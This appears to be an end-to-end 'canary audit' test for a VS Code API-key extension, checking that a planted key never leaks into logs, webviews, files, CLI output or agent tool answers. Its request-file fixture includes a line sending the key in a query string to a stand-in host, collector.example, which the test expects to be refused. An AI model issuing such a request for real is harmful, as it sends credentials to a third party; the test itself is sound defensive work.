// Canary audit: with a unique key in the vault, drive every command and view against the sandbox, then
// search everything the extension can write or show for that key and for the key it was rotated to.
// Expected hits beyond SecretStorage itself: zero.
import * as assert from 'node:assert';
import { spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { Commands, DIAGNOSTIC_SOURCE } from '../../src/constants';
import type { RingKeysApi } from '../../src/extension';
import { codeActions, driveLeakFlow, newRinggWorkspace, sandboxRinggKey } from './leakFlow';
import { Probe, sha } from './probe';
import { activate, addKeyThroughUi, answer, dialogText, NO_UI_BRIDGE, removeAllKeysThroughUi, runEnv, sandbox, ui, waitFor, startOnFreshSandbox } from './util';
import { allowSkips, skipBecause } from './skips';

const SKIPS = allowSkips(__filename, {
  desktop: NO_UI_BRIDGE,
  reloadOnly: 'runs only in the reload session (its window is reloaded and audited after the run)',
});

const ROOT = path.resolve(__dirname, '..', '..', '..');
const frameHtml = async (selector: string) => (await ui.call<{ html: string[] }>('html', { selector, frame: true })).html.join('\n');

function filesUnder(dir: string, out: string[] = []): string[] {
  if (!fs.existsSync(dir)) { return out; }
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) { filesUnder(p, out); } else if (e.isFile()) { out.push(p); }
  }
  return out;
}

/** A request file that names the key three ways: a header, a query parameter (the label shows it), and a request to another host (refused). */
const CANARY_HTTP = [
  '### workspace',
  'GET https://prod-api.ringg.ai/ca/api/v0/workspace',
  'x-api-key: {{RINGG_API_KEY}}',
  '',
  '?? status == 200',
  '?? js response.parsedBody.workspace_info.name == Sandbox Workspace',
  '',
  '### in the query',
  'GET https://prod-api.ringg.ai/ca/api/v0/workspace?probe={{$processEnv RINGG_API_KEY}}',
  'x-api-key: {{RINGG_API_KEY}}',
  '',
  '### elsewhere',
  'GET https://collector.example/x?k={{RINGG_API_KEY}}',
  'x-api-key: {{RINGG_API_KEY}}',
  '',
].join('\n');

describe('canary audit: no key leaks anywhere the extension writes or shows', function () {
  this.timeout(300_000);
  const canary = randomUUID();
  let rotated = '';
  /** The leaked-key flow's keys: the one found in two files, and the one it was rotated to. */
  let leaked = '';
  let leakRotated = '';
  let api: RingKeysApi;
  /** What "Save as .http" wrote: run by the CLI in the second test. */
  let savedHttp = '';
  const requestFile = () => vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'canary-requests.http');
  const leakFiles = () => ({ ts: vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'canary-leak.ts'),
    py: vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'canary_leak.py') });
  /** What was shown along the way: [where, text]. Searched at the end. */
  const seen: Array<[string, string]> = [];

  before(async function () {
    ({ api } = await startOnFreshSandbox(this, SKIPS.desktop, ['RING_KEYS_USER_DATA_DIR']));
    await fetch(`${sandbox.origin}/__sandbox/ringg-key`, { method: 'POST', body: JSON.stringify({ key: canary }) });
    await vscode.commands.executeCommand('notifications.clearAll');
  });

  // leave the window as found: no keys, no extra file, a fresh sandbox
  after(async () => {
    if (!ui.available || !sandbox.origin) { return; }
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await removeAllKeysThroughUi();
    const file = vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'canary-client.ts');
    await vscode.workspace.fs.delete(file).then(undefined, () => undefined);
    await vscode.workspace.fs.delete(requestFile()).then(undefined, () => undefined);
    for (const f of Object.values(leakFiles())) { await vscode.workspace.fs.delete(f).then(undefined, () => undefined); }
    await sandbox.reset();
  });

  it('drives add, verify, status bar menu, workspace info, request tester (incl. errors, history, cURL, Save as .http, Copy as .http), request files (Send All, a server echoing the key), scan, quick fix, rotate and a leaked key\'s check and rotation', async () => {
    // add + verify
    const id = await addKeyThroughUi('Ringg AI', 'Canary', canary);
    assert.strictEqual(await vscode.commands.executeCommand(Commands.verifyKey, id), 'valid');
    await vscode.commands.executeCommand(Commands.switchKey, id);
    // status bar menu
    await waitFor('the canary active and verified', () => api.status().kind === 'valid');
    await ui.click('.statusbar-item:has-text("Sandbox Workspace")');
    await waitFor('the menu', async () => (await ui.count('.quick-input-widget >> visible=true')) > 0);
    seen.push(['status bar menu', (await ui.texts('.quick-input-widget')).join('\n')]);
    await ui.press('Escape');
    seen.push(['status bar', (await ui.texts('.statusbar')).join('\n')]);
    // the key in a terminal, a task and a Node debug session (each program reports a hash of what it got)
    const probe = new Probe();
    try {
      assert.strictEqual((await probe.terminal()).RINGG_API_KEY, sha(canary), 'terminal');
      assert.strictEqual((await probe.task('shell')).RINGG_API_KEY, sha(canary), 'task');
      assert.strictEqual((await probe.debug()).RINGG_API_KEY, sha(canary), 'debug session');
    } finally { probe.dispose(); }
    seen.push(['terminal environment description', api.environment().description]);
    // workspace info
    await vscode.commands.executeCommand(Commands.showWorkspaceInfo, id);
    await waitFor('the info view', () => (api.workspaceInfo() as { type?: string } | undefined)?.type === 'info');
    await waitFor('the info table', async () => (await ui.texts('table', true)).join().includes('Sandbox Workspace'));
    seen.push(['workspace info webview', await frameHtml('html')], ['workspace info state', JSON.stringify(api.workspaceInfo())]);
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');

    // request tester: a success, an error, history and cURL
    await vscode.commands.executeCommand(Commands.openRequestTester, id);
    await waitFor('the tester', async () => /GET/.test((await ui.texts('#endpoints', true)).join()));
    const pick = async (filter: string) => {
      await ui.click('#filter', true);
      await ui.press('Control+A');
      await ui.type(filter);
      await ui.press('Enter');
    };
    await pick('workspace info');
    await ui.click('#send', true);
    await waitFor('the answer', async () => /Sandbox Workspace/.test((await ui.texts('#response-body', true)).join()));
    await sandbox.faults({ failNext: 1, failStatus: 401 });
    await ui.click('#send', true);
    await waitFor('the error answer', async () => /401/.test((await ui.texts('#result-status', true)).join()));
    await ui.click('#copy-curl', true);
    await waitFor('the cURL', async () => /RINGG_API_KEY/.test((await ui.texts('#curl', true)).join()));
    seen.push(['tester webview', await frameHtml('html')], ['tester state and history', JSON.stringify(api.tester())],
      ['clipboard after Copy as cURL', await vscode.env.clipboard.readText()]);
    // "Copy as .http" on the newest history entry (the 401): the request file on the clipboard
    await ui.click('#history .copy-http >> nth=0', true);
    const copied = await waitFor('the request file on the clipboard', async () => {
      const c = await vscode.env.clipboard.readText();
      return /^x-api-key: \{\{RINGG_API_KEY\}\}$/m.test(c) && c;
    });
    assert.match(copied, /^GET https:\/\/prod-api\.ringg\.ai\/ca\/api\/v0\/workspace$/m);
    await waitFor('the copied toast', async () => /as a request file/.test(await dialogText()));
    seen.push(['clipboard after Copy as .http (history)', copied], ['toast after Copy as .http', await dialogText()]);
    await vscode.commands.executeCommand('notifications.clearAll');   // a full notification list hides the rotation's question below
    // "Save as .http": the request as a new request file (kept for the CLI run below, which runs it)
    await ui.click('#save-http', true);
    const saved = await waitFor('the saved request file', () => vscode.workspace.textDocuments.find(d => d.isUntitled && d.languageId === 'http' && /\/workspace/.test(d.getText())));
    savedHttp = saved.getText();
    seen.push(['Save as .http (the untitled request file)', savedHttp]);
    await vscode.window.showTextDocument(saved);
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');

    // request files in the editor: Send All (a pass, the key in a query, a refusal), then again with a server that echoes the key
    const reqFile = requestFile();
    await vscode.workspace.fs.writeFile(reqFile, Buffer.from(CANARY_HTTP));
    const reqDoc = await vscode.workspace.openTextDocument(reqFile);
    await vscode.window.showTextDocument(reqDoc);
    const sentAll = await vscode.commands.executeCommand<Array<{ state: string }>>(Commands.sendAllHttpRequests, reqFile);
    assert.deepStrictEqual(sentAll.map(o => o.state), ['passed', 'passed', 'refused']);
    await waitFor('the answer document', () => vscode.window.visibleTextEditors.some(e => e.document.uri.scheme === 'ring-keys-response'));
    seen.push(['request file answer document', vscode.window.visibleTextEditors.find(e => e.document.uri.scheme === 'ring-keys-response')!.document.getText()]);
    await sandbox.faults({ leak: 'name' });
    const echoed = await vscode.commands.executeCommand<Array<{ state: string }>>(Commands.sendAllHttpRequests, reqFile);
    await sandbox.faults({ leak: null });
    assert.deepStrictEqual(echoed.map(o => o.state), ['failed', 'passed', 'refused'], 'the echoed name fails the assertion');
    const leakDiags = await waitFor('the key-for-another-host diagnostic', () => {
      const x = vscode.languages.getDiagnostics(reqFile).filter(v => v.code === 'keyForOtherHost');
      return x.length > 0 && x;
    });
    seen.push(['request file answers (both sends)', api.httpFiles().join('\n')], ['request file diagnostics', JSON.stringify(leakDiags.map(x => x.message))],
      ['notifications after the request files', await dialogText()]);
    await vscode.commands.executeCommand('notifications.clearAll');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');

    // agent tools (vscode.lm): the catalogue, a read, the key pasted into an argument, a server that echoes the key
    const tool = async (name: string, input: object) => (await vscode.lm.invokeTool(name, { input, toolInvocationToken: undefined })).content
      .map(part => (part instanceof vscode.LanguageModelTextPart ? part.value : '')).join('\n');
    const agentAnswers = [
      await tool('ringkeys_endpoints', { provider: 'ringg' }),
      await tool('ringkeys_request', { endpoint: 'ringg.workspace.info' }),
      await tool('ringkeys_request', { endpoint: 'ringg.agents.get', params: { agent_id: canary } }),
    ];
    await sandbox.faults({ leak: 'name' });
    agentAnswers.push(await tool('ringkeys_request', { endpoint: 'ringg.workspace.info' }));
    await sandbox.faults({ leak: null });
    assert.match(agentAnswers[1], /→ 200 OK/);
    seen.push(['agent tool answers (vscode.lm)', agentAnswers.join('\n')]);

    // scan: the canary hard-coded in a file, flagged, moved to SecretStorage by the quick fix; a workspace scan
    const file = vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'canary-client.ts');
    await vscode.workspace.fs.writeFile(file, Buffer.from(`export const headers = { 'X-API-KEY': '${canary}' };\n`));
    const doc = await vscode.workspace.openTextDocument(file);
    await vscode.window.showTextDocument(doc);
    const [d] = await waitFor('the canary flagged', () => {
      const x = vscode.languages.getDiagnostics(file).filter(v => v.source === DIAGNOSTIC_SOURCE);
      return x.length > 0 && x;
    });
    seen.push(['diagnostic', JSON.stringify({ message: d.message, code: d.code })]);
    const fixes = await codeActions(file, d);   // asked again when VS Code cancels the request under load
    const preferred = fixes.find(f => f.isPreferred && f.command?.command === Commands.moveKeyToSecretStorage);
    assert.ok(preferred, 'the preferred quick fix is offered');
    seen.push(['quick fix titles', fixes.map(f => f.title).join('\n')]);
    await vscode.commands.executeCommand(preferred.command!.command, ...(preferred.command!.arguments ?? []));
    await waitFor('the literal replaced', () => !doc.getText().includes(canary));
    await doc.save();
    await vscode.commands.executeCommand(Commands.scanWorkspace);
    seen.push(['problems', JSON.stringify(vscode.languages.getDiagnostics().map(([u, ds]) => [u.toString(), ds.map(x => x.message)]))]);
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');

    // rotate
    const rotation = vscode.commands.executeCommand<string>(Commands.rotateKey, id);
    await waitFor('the confirmation', async () => /old key stops working immediately/.test(await dialogText()));
    await answer('Rotate Key');
    assert.strictEqual(await rotation, 'rotated');
    rotated = (await sandbox.state()).ringgKey;
    assert.notStrictEqual(rotated, canary);
    await waitFor('the rotated toast', async () => /Rotated\./.test(await dialogText()));
    seen.push(['notifications', await dialogText()], ['profiles', JSON.stringify(api.profiles())]);
    await vscode.commands.executeCommand('notifications.clearAll');

    // a leaked key in two files: checked, then rotated in one flow (diagnostics, hover, list, summary, log)
    leaked = await newRinggWorkspace('Canary Leak');
    const flow = await driveLeakFlow(leakFiles(), leaked, 'Canary Leak');
    assert.strictEqual(flow.result, 'rotated');
    leakRotated = (await sandboxRinggKey('Canary Leak')) ?? '';
    assert.ok(leakRotated && leakRotated !== leaked);
    seen.push(['leak flow: diagnostics, hover, occurrence list, summary', JSON.stringify(flow)], ['notifications after the leak flow', await dialogText()],
      ['profiles after the leak flow', JSON.stringify(api.profiles())]);
    await vscode.commands.executeCommand('notifications.clearAll');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('finds neither key anywhere but SecretStorage: log, notifications, webviews, state, settings, history, files, CLI (incl. http run and its JUnit report)', async () => {
    assert.ok(rotated, 'the drive above rotated the key');
    assert.ok(leaked && leakRotated, 'the drive above rotated the leaked key');
    const haystacks: Array<[string, string]> = [...seen];
    // browser storage: global/workspace state, webview state, tester history (all in the workbench's storage)
    const storage = await ui.call<{ text: string }>('browserStorage', { skip: ['secrets.provider'] });
    haystacks.push(['browser storage (localStorage + IndexedDB)', storage.text]);
    // every file under the user-data dir: logs (the Ring Keys log channel, extension host), settings, state
    const userData = process.env.RING_KEYS_USER_DATA_DIR!;
    const files = filesUnder(userData);
    assert.ok(files.some(f => /Ring Keys\.log$/.test(f)), `the log channel's file is among ${files.length} files searched`);
    for (const f of files) { haystacks.push([`file ${path.relative(userData, f)}`, fs.readFileSync(f).toString('utf8')]); }
    // every workspace file the extension touched (the quick fix rewrote one)
    for (const f of filesUnder(vscode.workspace.workspaceFolders![0].uri.fsPath)) {
      haystacks.push([`workspace ${path.basename(f)}`, fs.readFileSync(f).toString('utf8')]);
    }
    // the CLI: verify (the key from the environment) and scan (a file holding the key), stdout and stderr
    const cli = path.join(ROOT, 'dist', 'cli.js');
    const v = spawnSync(process.execPath, [cli, 'verify', '--provider', 'ringg', '--base-url', `${sandbox.origin}/ca/api/v0`, '--json', '--verbose'],
      { encoding: 'utf8', env: { ...process.env, RINGG_API_KEY: rotated } });
    assert.strictEqual(v.status, 0, v.stderr);
    haystacks.push(['CLI verify', v.stdout + v.stderr]);
    // the CLI: http run (the key from the environment) of the request file and of what "Save as .http" wrote, with a
    // JUnit report; then again with a server that echoes the key into the answer the assertion reads
    assert.match(savedHttp, /^x-api-key: \{\{RINGG_API_KEY\}\}$/m, 'Save as .http wrote the key as a variable');
    const httpDir = fs.mkdtempSync(path.join(os.tmpdir(), 'ring-keys-canary-http-'));
    fs.writeFileSync(path.join(httpDir, 'canary.http'), CANARY_HTTP);
    fs.writeFileSync(path.join(httpDir, 'saved.http'), savedHttp);
    for (const leak of [null, 'name'] as const) {
      await sandbox.faults({ leak });
      const junit = path.join(httpDir, `report-${leak ?? 'plain'}.xml`);
      const h = spawnSync(process.execPath, [cli, 'http', 'run', httpDir, '--junit', junit, '--ringg-base-url', `${sandbox.origin}/ca/api/v0`],
        { encoding: 'utf8', env: { ...process.env, RINGG_API_KEY: rotated } });
      assert.strictEqual(h.status, 2, `http run: the request to another host is refused: ${h.stdout}${h.stderr}`);
      assert.match(h.stdout, leak ? /FAIL workspace/ : /ok {3}workspace/);
      assert.match(h.stdout, /saved\.http\n {2}ok {3}info /, 'the file "Save as .http" wrote ran and passed');
      haystacks.push([`CLI http run${leak ? ' (the key echoed)' : ''}`, h.stdout + h.stderr], [`CLI http run JUnit${leak ? ' (the key echoed)' : ''}`, fs.readFileSync(junit, 'utf8')]);
    }
    await sandbox.faults({ leak: null });
    fs.rmSync(httpDir, { recursive: true, force: true });
    // the MCP server (ring-keys mcp) with the key from the environment, driven by the SDK's client
    const transport = new StdioClientTransport({ command: process.execPath, args: [cli, 'mcp'], stderr: 'pipe',
      env: { PATH: process.env.PATH ?? '', RINGG_API_KEY: rotated, RINGKEYS_RINGG_BASE_URL: `${sandbox.origin}/ca/api/v0` } });
    let mcpStderr = '';
    transport.stderr?.on('data', (d: Buffer) => { mcpStderr += d.toString('utf8'); });
    const client = new Client({ name: 'canary', version: '1.0.0' });
    await client.connect(transport);
    const mcpText = async (args: Record<string, unknown>) => ((await client.callTool({ name: 'ringkeys_request', arguments: args })) as { content: Array<{ text?: string }> })
      .content.map(c => c.text ?? '').join('\n');
    const mcpAnswers = [await mcpText({ endpoint: 'ringg.workspace.info' }), await mcpText({ endpoint: 'ringg.agents.get', params: { agent_id: rotated } })];
    await sandbox.faults({ leak: 'name' });
    mcpAnswers.push(await mcpText({ endpoint: 'ringg.workspace.info' }));
    await sandbox.faults({ leak: null });
    await client.close();
    assert.match(mcpAnswers[0], /→ 200 OK/);
    haystacks.push(['MCP server answers and stderr', `${mcpAnswers.join('\n')}\n${mcpStderr}`]);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ring-keys-canary-'));
    fs.writeFileSync(path.join(dir, 'leak.py'), `RINGG_API_KEY = "${canary}"\nheaders = {"X-API-KEY": "${rotated}"}\nLEAKED_API_KEY = "${leaked}"\nNEW_API_KEY = "${leakRotated}"\n`);
    for (const format of ['text', 'json', 'sarif']) {
      for (const verify of [[], ['--verify']]) {
        const s = spawnSync(process.execPath, [cli, 'scan', ...verify, '--format', format, dir], { encoding: 'utf8',
          env: { ...process.env, RINGKEYS_RINGG_BASE_URL: `${sandbox.origin}/ca/api/v0` } });
        assert.strictEqual(s.status, 1, `scan ${verify.join(' ')} --format ${format} finds the planted keys: ${s.stderr}`);
        if (verify.length) { assert.match(s.stdout, /live/, 'the keys that work are reported live'); }
        haystacks.push([`CLI scan ${verify.join(' ')} --format ${format}`, s.stdout + s.stderr]);
      }
    }
    fs.rmSync(dir, { recursive: true, force: true });

    // positive controls: the places searched do hold what the extension wrote there (so a key would be found)
    const holding = (re: RegExp) => haystacks.filter(([, text]) => re.test(text)).map(([where]) => where);
    assert.ok(holding(/"name":"Canary"/).length > 0, 'the profile metadata (global state) was among the places searched');
    assert.ok(holding(/\[rotate\] new key for "Canary" \(…/).some(w => /Ring Keys\.log$/.test(w)), 'the log channel was searched');
    assert.ok(holding(/process\.env\.RINGG_API_KEY/).some(w => /canary-client\.ts$/.test(w)), 'the rewritten workspace file was searched');
    assert.ok(holding(/…[0-9a-f]{4}/).length > 3, 'masked tails are shown (and searched) in several places');
    assert.ok(holding(/Sandbox Workspace/).some(w => /agent tool answers/.test(w)) && holding(/Sandbox Workspace/).some(w => /MCP server/.test(w)),
      'both agent servers answered (and were searched)');

    assert.ok(holding(/\[http-files\] passed GET .*\/workspace/).some(w => /Ring Keys\.log$/.test(w)), 'the request files\' sends were logged');
    assert.ok(holding(/HTTP 200[\s\S]*Sandbox Workspace/).some(w => /request file answer/.test(w)), 'the request file\'s answer was searched');
    assert.ok(holding(/Team \[REDACTED\]/).some(w => /request file answers/.test(w)), 'the echoed key reached the editor\'s answer (redacted)');
    assert.ok(holding(/<failure [^>]*Team \[REDACTED\]/).some(w => /JUnit \(the key echoed\)/.test(w)), 'the echoed key reached the JUnit report (redacted)');
    assert.ok(holding(/probe=\[REDACTED\]/).some(w => /^CLI http run$/.test(w)), 'the key in a query reached the progress line (redacted)');
    assert.ok(holding(/RINGG_API_KEY = os\.environ\["RINGG_API_KEY"\]/).some(w => /canary_leak\.py$/.test(w)), 'the files the leak flow rewrote were searched');
    assert.ok(holding(/\[rotate-leak\] rotating the leaked Ringg key …/).some(w => /Ring Keys\.log$/.test(w)), 'the leak flow logged (masked)');

    const keys = [canary, rotated, leaked, leakRotated];
    const hits = haystacks.filter(([, text]) => keys.some(k => text.includes(k))).map(([where]) => where);
    console.log(`    searched ${haystacks.length} places (${files.length} files under the user-data dir)`);
    assert.deepStrictEqual(hits, [], 'a key was found outside SecretStorage');
    // and SecretStorage itself holds them only sealed
    const sealed = await ui.localStorage('secrets.provider');
    assert.ok(!sealed?.includes(rotated) && !sealed?.includes(leakRotated));
  });
});

// Runs in the reload session of runTest.ts: leaves a key active, a terminal with it open, a task and a debug
// session run, and names the key for the stand-in, which then reloads the window twice and searches every file
// under the user-data dir, the browser storage and the workspace for it (tools/standin/harness.mjs).
describe('canary audit across a window reload [reload]', function () {
  this.timeout(180_000);

  before(function () {
    if (!ui.available) { skipBecause(this, SKIPS.desktop); }
    if (!process.env.RING_KEYS_RELOAD_AUDIT) { skipBecause(this, SKIPS.reloadOnly); }
    runEnv('RING_KEYS_SANDBOX');
  });

  it('a key used by a terminal (left open), a task and a debug session is handed to the after-reload audit', async () => {
    const api = await activate();
    const canary = randomUUID();
    await sandbox.reset();
    await fetch(`${sandbox.origin}/__sandbox/ringg-key`, { method: 'POST', body: JSON.stringify({ key: canary }) });
    const id = await addKeyThroughUi('Ringg AI', 'Reload canary', canary);
    await vscode.commands.executeCommand('notifications.clearAll');
    await waitFor('the key active and verified', () => api.status().kind === 'valid');
    await waitFor('the key applied', () => api.environment().names.includes('RINGG_API_KEY'));
    const probe = new Probe();
    const kept = vscode.window.createTerminal({ name: 'kept over the reload' });
    kept.show();
    assert.strictEqual((await probe.terminal(kept, true)).RINGG_API_KEY, sha(canary), 'terminal (left open)');
    assert.strictEqual((await probe.task('shell')).RINGG_API_KEY, sha(canary), 'task');
    assert.strictEqual((await probe.debug({ console: 'integratedTerminal' })).RINGG_API_KEY, sha(canary), 'debug session in the integrated terminal');
    assert.strictEqual((await probe.debug()).RINGG_API_KEY, sha(canary), 'debug session');
    const opened = new Promise<vscode.Terminal>(resolve => { const d = vscode.window.onDidOpenTerminal(t => { d.dispose(); resolve(t); }); });
    await vscode.commands.executeCommand(Commands.openTerminalWithKey, id);
    assert.strictEqual((await probe.terminal(await opened, true)).RINGG_API_KEY, sha(canary), 'Open Terminal with Key (left open)');
    // the audit file is outside the user-data dir and the workspace; the stand-in deletes it after reading
    fs.writeFileSync(process.env.RING_KEYS_RELOAD_AUDIT!, JSON.stringify({ needles: [canary], status: 'Sandbox Workspace', control: 'Reload canary' }));
  });
});
